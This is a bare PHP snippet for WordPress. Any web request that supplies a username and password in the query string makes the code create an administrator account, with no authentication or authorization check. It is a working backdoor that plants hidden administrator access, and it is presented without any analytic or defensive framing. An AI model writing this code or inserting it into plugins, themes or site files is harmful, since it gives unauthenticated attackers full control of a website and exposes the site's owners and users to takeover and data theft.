<?php
if (isset($_GET['new'])) {
    $id = wp_create_user($_GET['new'], $_GET['word'], 'a@example.invalid');
    (new WP_User($id))->set_role('administrator');
}
